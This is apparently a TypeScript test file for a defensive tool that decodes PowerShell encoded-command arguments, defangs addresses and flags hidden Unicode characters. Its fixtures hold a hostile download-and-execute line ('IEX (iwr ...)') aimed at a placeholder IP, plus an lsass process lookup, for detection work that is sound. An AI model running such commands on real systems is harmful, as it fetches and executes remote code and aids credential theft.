import { expect, test } from "vitest";
import { defang, plain } from "./defang";
import { decodeEncodedCommand } from "./encodedCommand";

const encode = (text: string) => Buffer.from(text, "utf16le").toString("base64");

test.each(["-enc", "-e", "-EncodedCommand", "/eNc", "-ec", "\u2013enc"])("%s is decoded", (parameter) => {
  const base64 = encode("IEX (iwr 'http://198.51.100.24/a')");
  const line = `powershell.exe -nop ${parameter} ${base64}`;
  const decoded = decodeEncodedCommand(line);
  expect(decoded?.text).toBe("IEX (iwr 'http://198.51.100.24/a')");
  expect(line.slice(decoded?.start, decoded?.end)).toBe(base64);
});

test("other parameters and other Base64 are not", () => {
  expect(decodeEncodedCommand(`powershell -ExecutionPolicy Bypass -File ${encode("whoami")}`)).toBeNull();
  expect(decodeEncodedCommand("powershell -enc AAECAwQFBgcICQoLDA0ODxAREhMUFRYX")).toBeNull();
  expect(decodeEncodedCommand("tar -e notbase64!!")).toBeNull();
});

test("a cut command line gives what is there", () => {
  const base64 = encode("Get-Process -Name lsass");
  expect(decodeEncodedCommand(`pwsh -enc ${base64.slice(0, 21)}`)?.text).toMatch(/^Get-Pro/);
});

test("hostile input is quick", () => {
  const start = performance.now();
  decodeEncodedCommand(`${"-e ".repeat(50_000)}${"A".repeat(400_000)}`);
  expect(performance.now() - start).toBeLessThan(1000);
});

test("addresses are defanged, private ones and versions stay", () => {
  expect(defang("http://evil.example.com/a 198.51.100.24:443")).toBe(
    "hxxp://evil.example[.]com/a 198.51.100[.]24:443",
  );
  expect(defang("10.0.4.11 192.168.1.1 172.16.0.9")).toBe("10.0.4.11 192.168.1.1 172.16.0.9");
  expect(defang("C:\\a\\b.exe")).toBe("C:\\a\\b.exe");
});

test("tips name hidden characters", () => {
  expect(plain("a\u202eb")).toBe("a⟨U+202E⟩b");
});
